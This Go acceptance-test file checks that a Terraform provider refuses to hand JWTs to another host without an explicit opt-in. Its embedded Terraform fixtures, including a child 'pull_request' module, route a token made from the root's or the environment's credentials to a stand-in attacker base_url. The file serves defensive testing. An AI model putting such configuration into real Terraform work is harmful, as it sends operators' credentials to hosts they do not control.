package provider

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestAccJWTEphemeralResource_environmentCredentialsStayHome runs the attack of issue 29
// through the CLI, with credentials exported the way an operator exports them: an
// eventnotify_jwt on the default provider block, whose credentials are the environment's,
// passes its token to an aliased block whose base_url is another host (a tap in front of
// the mock, so that a token that leaked would even work, as it would on the real service).
// Without EVENTNOTIFY_ALLOW_JWT_EXPORT=true the plan fails, naming the variable, and the
// other host receives nothing, and no token is even generated for the target account; with
// it the token is handed out; credentials written in the default block are handed out only
// with its allow_jwt_export = true, which does not cover the environment's; and a value of the
// variable other than true or false fails before any request.
func TestAccJWTEphemeralResource_environmentCredentialsStayHome(t *testing.T) {
	const refused = "JWT from the environment's credentials not handed out"
	cases := []struct {
		name string
		// env is added to the workspace's environment, which exports EVENTNOTIFY_USERNAME and
		// EVENTNOTIFY_PASSWORD for the mock; {{env_jwt}} stands for a JWT the mock issued.
		env []string
		// defaultBlock is the body of the default provider block.
		defaultBlock string
		// account is the account of the token and of the aliased block.
		account string
		// expect is the plan's error; nil when apply must succeed through the other host.
		expect []string
	}{
		{
			name:    "environment password",
			account: jwtAccount,
			expect:  []string{refused, "came from the environment", envUsername + ", " + envPassword, "export " + envAllowJWTExport + "=true"},
		},
		{
			name:    "environment password, variable false",
			env:     []string{envAllowJWTExport + "=false"},
			account: jwtAccount,
			expect:  []string{refused, envAllowJWTExport + "=true"},
		},
		{
			name:    "environment JWT",
			env:     []string{envUsername + "=", envPassword + "=", envJWT + "={{env_jwt}}"},
			account: testAccount,
			expect:  []string{refused, "came from the environment (" + envJWT + ")", envAllowJWTExport + "=true"},
		},
		{
			name:    "environment password, variable yes",
			env:     []string{envAllowJWTExport + "=yes"},
			account: jwtAccount,
			expect:  []string{"Invalid " + envAllowJWTExport, envAllowJWTExport + `="yes" is neither true nor false`},
		},
		{
			name:    "environment password, variable true",
			env:     []string{envAllowJWTExport + "=true"},
			account: jwtAccount,
		},
		{
			name:    "environment JWT, variable true",
			env:     []string{envUsername + "=", envPassword + "=", envJWT + "={{env_jwt}}", envAllowJWTExport + "=true"},
			account: testAccount,
		},
		{
			name:         "credentials in the default block, allow_jwt_export = true",
			env:          []string{envUsername + "=", envPassword + "="},
			defaultBlock: fmt.Sprintf("username = %q\n  password = %q\n  allow_jwt_export = true", testUser, testPassword),
			account:      jwtAccount,
		},
		{
			name:         "credentials in the default block, without allow_jwt_export",
			env:          []string{envUsername + "=", envPassword + "="},
			defaultBlock: fmt.Sprintf("username = %q\n  password = %q", testUser, testPassword),
			account:      jwtAccount,
			expect:       []string{"JWT from the provider block's credentials not handed out", "allow_jwt_export = true", envAllowJWTExport + "=true"},
		},
		{
			// The block's switch covers its own credentials only.
			name:         "environment password, allow_jwt_export = true",
			defaultBlock: "allow_jwt_export = true",
			account:      jwtAccount,
			expect:       []string{refused, "export " + envAllowJWTExport + "=true", "covers only credentials that the block sets itself"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			home := newTestMock(t)
			tap, otherHost := newHeaderTap(t, home)
			w := newCLIWorkspace(t, home)
			w.require(featureEphemeralResources)
			envJWTValue := home.IssueJWT(testAccount, testUser, time.Now().Add(time.Hour))
			var env []string
			for _, kv := range tc.env {
				env = append(env, strings.ReplaceAll(kv, "{{env_jwt}}", envJWTValue))
			}
			w.write("main.tf", requiredProviders+fmt.Sprintf(`
provider "eventnotify" {
  %[1]s
}

ephemeral "eventnotify_jwt" "t" {
  account_id = %[2]q
}

provider "eventnotify" {
  alias      = "other"
  account_id = %[2]q
  base_url   = %[3]q
  auth_url   = %[3]q
  jwt        = ephemeral.eventnotify_jwt.t.token
}

resource "eventnotify_subscription" "other" {
  provider         = eventnotify.other
  event_name       = "ATOM.STATUS"
  destination_type = "EVENT_STREAMS"
  log_level        = "ERROR"
}
`, tc.defaultBlock, tc.account, otherHost))

			if tc.expect != nil {
				out, code := w.run(env, "plan", "-input=false", "-no-color")
				if seen := tap.requests(); len(seen) != 0 {
					t.Errorf("the other host received %d requests:\n%s", len(seen), strings.Join(seen, "\n"))
				}
				if code == 0 || !errorPattern(tc.expect...).MatchString(out) {
					t.Fatalf("plan exited %d; want it to fail saying %q:\n%s", code, tc.expect, out)
				}
				for _, r := range home.Requests() {
					if tc.account != testAccount && strings.Contains(r.Path, tc.account) {
						t.Errorf("a request for the target account was sent: %s %s", r.Method, r.Path)
					}
				}
				if strings.Contains(out, envJWTValue) || strings.Contains(out, testPassword) {
					t.Error("the output holds a credential")
				}
				return
			}

			out := w.mustRun(env, "apply", "-auto-approve", "-input=false", "-no-color")
			if n := len(home.Subscriptions(tc.account)); n != 1 {
				t.Fatalf("account %s holds %d subscriptions after apply, want 1:\n%s", tc.account, n, out)
			}
			seen := tap.requests()
			if len(seen) == 0 {
				t.Fatal("the other host received no request: the token was not handed out")
			}
			for _, req := range seen {
				if !strings.Contains(req, "Authorization=Bearer ") || strings.Contains(req, "basic-user=") {
					t.Errorf("the other host received a request without the handed-out token: %s", req)
				}
			}
		})
	}
}

// TestAccJWTEphemeralResource_childModuleCannotTakeRootCredentials runs the attack of issue 38
// item 2 through the CLI: the root's provider block holds credentials from input variables
// (as the docs advise for a second user); a child module (someone else's pull request, run
// with plan in CI) opens eventnotify_jwt on the provider it inherits and hands the token to a
// provider block of its own whose base_url is the attacker's (a tap in front of the mock, so
// that a token that leaked would work). Without allow_jwt_export in the root's block, plan
// fails naming allow_jwt_export and EVENTNOTIFY_ALLOW_JWT_EXPORT, no token is generated for
// the target account and the attacker's host receives nothing, not even with
// EVENTNOTIFY_ALLOW_JWT_EXPORT=true (which covers the environment's credentials only); with
// allow_jwt_export = true in the root's block the module gets its token.
func TestAccJWTEphemeralResource_childModuleCannotTakeRootCredentials(t *testing.T) {
	cases := []struct {
		name string
		// rootLine is one more line of the root's provider block.
		rootLine string
		// env is added to the workspace's environment.
		env []string
		// expect is the plan's error; nil when apply must succeed through the attacker's host.
		expect []string
	}{
		{
			name: "root block without allow_jwt_export",
			expect: []string{"JWT from the provider block's credentials not handed out", "came from the provider block (username, password)",
				"does not set allow_jwt_export = true", "set allow_jwt_export = true in the provider block that holds the credentials",
				envAllowJWTExport + "=true instead"},
		},
		{
			name:     "root block with allow_jwt_export = false",
			rootLine: "allow_jwt_export = false",
			expect:   []string{"JWT from the provider block's credentials not handed out", "allow_jwt_export = true"},
		},
		{
			name:   "root block without allow_jwt_export, the environment's switch on",
			env:    []string{envAllowJWTExport + "=true"},
			expect: []string{"JWT from the provider block's credentials not handed out", "allow_jwt_export = true"},
		},
		{name: "root block with allow_jwt_export = true", rootLine: "allow_jwt_export = true"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			home := newTestMock(t)
			tap, attacker := newHeaderTap(t, home)
			w := newCLIWorkspace(t, home)
			w.require(featureEphemeralResources)
			env := append([]string{envUsername + "=", envPassword + "=",
				"TF_VAR_eventnotify_username=" + testUser, "TF_VAR_eventnotify_password=" + testPassword}, tc.env...)
			w.write("main.tf", requiredProviders+fmt.Sprintf(`
variable "eventnotify_username" {
  type = string
}

variable "eventnotify_password" {
  type      = string
  sensitive = true
}

provider "eventnotify" {
  username = var.eventnotify_username
  password = var.eventnotify_password
  %s
}

module "pull_request" {
  source = "./modules/pull_request"
}
`, tc.rootLine))
			w.write("modules/pull_request/main.tf", requiredProviders+fmt.Sprintf(`
ephemeral "eventnotify_jwt" "taken" {
  account_id = %[1]q
}

provider "eventnotify" {
  alias      = "attacker"
  account_id = %[1]q
  base_url   = %[2]q
  auth_url   = %[2]q
  jwt        = ephemeral.eventnotify_jwt.taken.token
}

resource "eventnotify_subscription" "attacker" {
  provider         = eventnotify.attacker
  event_name       = "ATOM.STATUS"
  destination_type = "EVENT_STREAMS"
  log_level        = "ERROR"
}
`, jwtAccount, attacker))
			w.mustRun(nil, "get", "-no-color") // installs the local module; the provider comes from the overrides

			if tc.expect != nil {
				out, code := w.run(env, "plan", "-input=false", "-no-color")
				if code == 0 || !errorPattern(tc.expect...).MatchString(out) {
					t.Fatalf("plan exited %d; want it to fail saying %q:\n%s", code, tc.expect, out)
				}
				if seen := tap.requests(); len(seen) != 0 {
					t.Errorf("the attacker's host received %d requests:\n%s", len(seen), strings.Join(seen, "\n"))
				}
				for _, r := range home.Requests() {
					if strings.Contains(r.Path, jwtAccount) {
						t.Errorf("a request for the target account was sent: %s %s", r.Method, r.Path)
					}
				}
				if strings.Contains(out, testPassword) {
					t.Error("the output holds the password")
				}
				return
			}

			out := w.mustRun(env, "apply", "-auto-approve", "-input=false", "-no-color")
			if n := len(home.Subscriptions(jwtAccount)); n != 1 {
				t.Fatalf("account %s holds %d subscriptions after apply, want 1:\n%s", jwtAccount, n, out)
			}
			seen := tap.requests()
			if len(seen) == 0 {
				t.Fatal("the attacker's host received no request: the token was not handed out, the test proves nothing")
			}
			for _, req := range seen {
				if !strings.Contains(req, "Authorization=Bearer ") || strings.Contains(req, "basic-user=") {
					t.Errorf("the attacker's host received a request without the handed-out token: %s", req)
				}
			}
		})
	}
}
